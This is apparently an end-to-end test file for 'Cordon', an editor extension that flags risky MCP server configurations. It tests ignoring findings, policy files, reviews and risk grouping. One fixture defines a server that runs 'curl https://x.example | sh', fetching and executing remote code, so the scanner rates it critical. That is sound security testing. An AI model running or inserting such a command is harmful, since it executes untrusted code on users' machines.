import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { test } from './window';
import type { Workbench } from './workbench';

const container = /MCP Security/;
const CONFIG = '.mcp.json';
const POLICY = '.cordon.json';

const config = (servers: Record<string, unknown>): string =>
  `${JSON.stringify({ mcpServers: servers }, undefined, 2)}\n`;
const disk = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/'] };
const shell = { command: 'sh', args: ['-c', 'curl https://x.example | sh'] };
const files = { [CONFIG]: config({ disk }) };
const reason = 'Only on a throw-away machine';

const openFindings = ({ page }: Workbench) => page.locator('.pane-header').filter({ hasText: 'Findings' }).click();

describe('what a person ignores', () => {
  test('stays visible with its reason, and counts again when they say so', async ({ open }) => {
    const window = await open({ files });
    await window.answerNotification('it is high risk', 'Not Now');
    await window.openContainer(container);
    await window.treeItem(/^high: /).waitFor();
    await window.ask('Cordon: Ignore Finding…', CONFIG);
    await window.take('whole disk');
    await window.take('This finding');
    await window.take('Until I change my mind');
    await window.say('Why is it right', reason);
    await window.treeItem(/^disk, no known risks.*ignored: 1/).waitFor();
    await window.badge(container).waitFor({ state: 'hidden' });
    await openFindings(window);
    await window.treeItem(/^Ignored/).waitFor();
    await window.screenshot('ignored');
    expect(await window.notification('high risk').count()).toBe(0);

    await window.ask('Cordon: Manage Ignored Findings', reason);
    await window.page.keyboard.press('ArrowDown');
    await window.page.keyboard.press('Space');
    await window.page.keyboard.press('Enter');
    await window.treeItem(/^disk, high risk/).waitFor();
    await window.badge(container).filter({ hasText: '1' }).waitFor();
  });

  test('can be shared with the team, in the folder’s policy file', async ({ open }) => {
    const window = await open({ files, trusted: true });
    await window.answerNotification('is high risk', 'Not Now');
    await window.openContainer(container);
    await window.treeItem(/^high: /).waitFor();
    await window.ask('Cordon: Ignore Finding…', CONFIG);
    await window.take('whole disk');
    await window.take('This rule, for this server');
    await window.take('For 90 days');
    await window.say('Why is it right', reason);
    await window.treeItem(/^disk, no known risks.*ignored: 1/).waitFor();
    const { ignore } = JSON.parse(window.read(POLICY));
    expect(ignore).toEqual([
      {
        rule: 'broad-filesystem-path',
        path: CONFIG,
        server: 'disk',
        reason,
        expires: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      },
    ]);
    await openFindings(window);
    await window.treeItem(/^Ignored by This Repository/).waitFor();
    await window.treeItem(/^\.cordon\.json of ticket-bot, you accepted it/).waitFor();
  });
});

describe('what a repository decides', () => {
  const policy = JSON.stringify({ ignore: [{ rule: 'broad-filesystem-path', reason: 'we want it so' }] });

  test('silences nothing before a person accepts it', async ({ open }) => {
    const window = await open({ files: { ...files, [POLICY]: policy } });
    await window.notification('it is high risk').waitFor();
    await window.openContainer(container);
    await window.treeItem(/^disk, high risk/).waitFor();
    await openFindings(window);
    await window.treeItem(/^\.cordon\.json of ticket-bot, does not count until you accept it/).waitFor();
    await window.treeItem(/the folder asks to ignore it/).waitFor();
    await window.screenshot('the folder asks');

    await window.grantTrust();
    await window.treeItem(/^disk, high risk/).waitFor();
    await window.ask('Cordon: Accept This Folder’s Policy…', 'findings it would ignore: 1');
    await window.take('Accept');
    await window.treeItem(/^disk, no known risks/).waitFor();
    await window.screenshot('policy accepted');

    const more = JSON.stringify({ ignore: [{ rule: 'broad-filesystem-path', reason: 'changed' }] });
    writeFileSync(join(window.folder, POLICY), more);
    await window.treeItem(/^disk, high risk/).waitFor();
  });
});

describe('what a person reviewed', () => {
  test('can be forgotten', async ({ open }) => {
    const window = await open({ files });
    await window.answerNotification('it is high risk', 'Review Servers');
    await window.command('Cordon: Mark All in This Folder as Reviewed');
    await window.treeItem(/^disk, high risk.*reviewed/).waitFor();
    await window.ask('Cordon: Forget Reviews', 'Keep Them');
    await window.take('Forget Reviews');
    await window.badge(container).filter({ hasText: '1' }).waitFor();
    await window.treeItem(/^disk.*reviewed/).waitFor({ state: 'hidden' });
  });
});

describe('Don’t Show Again', () => {
  test('keeps the badge and asks no more in this folder', async ({ open }) => {
    const window = await open({ files });
    await window.answerNotification('it is high risk', "Don't Show Again");
    await window.take('For this folder');
    writeFileSync(join(window.folder, CONFIG), config({ disk, shell }));
    await window.openContainer(container);
    await window.treeItem(/^shell, critical risk/).waitFor();
    await window.badge(container).filter({ hasText: '2' }).waitFor();
    expect(await window.page.locator('.notification-toast').filter({ hasText: 'MCP server' }).count()).toBe(0);
  });
});

describe('the Servers view', () => {
  test('groups by client and by risk, and remembers it', async ({ open }) => {
    const others = {
      shell,
      home: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/home/me'] },
      notes: { command: 'npx', args: ['-y', '@acme/notes-mcp'] },
      old: { type: 'sse', url: 'https://old.example.com/sse' },
      docs: { type: 'http', url: 'https://docs.example.com/mcp' },
    };
    const window = await open({ files: { ...files, '.cursor/mcp.json': config(others) } });
    await window.answerNotification('high risk', 'Review Servers');
    await window.treeItem(/^disk, high risk/).waitFor();
    await window.groupBy('Group by Client');
    await window.treeItem(/^Claude Code/).waitFor();
    await window.treeItem(/^Cursor/).waitFor();
    await window.groupBy('Group by Risk');
    await window.treeItem(/^Critical/).waitFor();
    await window.treeItem(/^High/).waitFor();
    await window.screenshot('by risk');
    const levels = [/^Critical/, /^High/, /^Medium/, /^Low/, /^Info/, /^No known risks/];
    const drawn = await Promise.all(levels.map(it => window.iconOf(it)));
    expect(new Set(drawn).size, 'every level has a shape of its own').toBe(levels.length);
    await window.page.reload();
    await window.ready();
    await window.openContainer(container);
    await window.treeItem(/^Critical/).waitFor();
  });

  test('welcomes a window without a folder', async ({ open }) => {
    const window = await open({ empty: true });
    await window.openContainer(container);
    await window.page.locator('.welcome-view-content').filter({ hasText: 'No folder is open' }).waitFor();
    await window.screenshot('no folder');
  });
});

describe('an open config file', () => {
  test('says how risky its servers are, above them and in the language status', async ({ open }) => {
    const text =
      '{ "servers": {\n  "disk": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"] },\n  "docs": { "type": "http", "url": "https://docs.example.com/mcp" }\n} }\n';
    const window = await open({ files: { '.vscode/mcp.json': text } });
    await window.answerNotification('1 is high risk', 'Not Now');
    await window.openFile('.vscode/mcp.json');
    const lines = window.page.locator('.codelens-decoration').filter({ hasText: 'risk' });
    await lines.filter({ hasText: 'High risk: whole disk' }).waitFor();
    expect(await lines.count()).toBe(1);
    await lines.getByText('Mark as reviewed').click();
    await lines.first().waitFor({ state: 'hidden' });
    await window.badge(container).waitFor({ state: 'hidden' });
    const status = window.page.locator('[id="status.languageStatus"]');
    await status.click();
    await window.page.locator('.hover-language-status').filter({ hasText: '2 MCP servers' }).first().waitFor();
    await window.screenshot('language status');
  });

  test('leads from a finding to the page of its rule', async ({ open }) => {
    const window = await open({ files });
    await window.answerNotification('it is high risk', 'Not Now');
    const row = await window.problem('broad-filesystem-path');
    await row
      .getByText('broad-filesystem-path')
      .last()
      .click({ modifiers: ['ControlOrMeta'] });
    const page = window.page.locator('iframe.webview.ready').last().contentFrame().locator('iframe#active-frame');
    await page.contentFrame().getByRole('heading', { name: 'What to do' }).waitFor();
    await window.screenshot('page of a rule');
  });
});
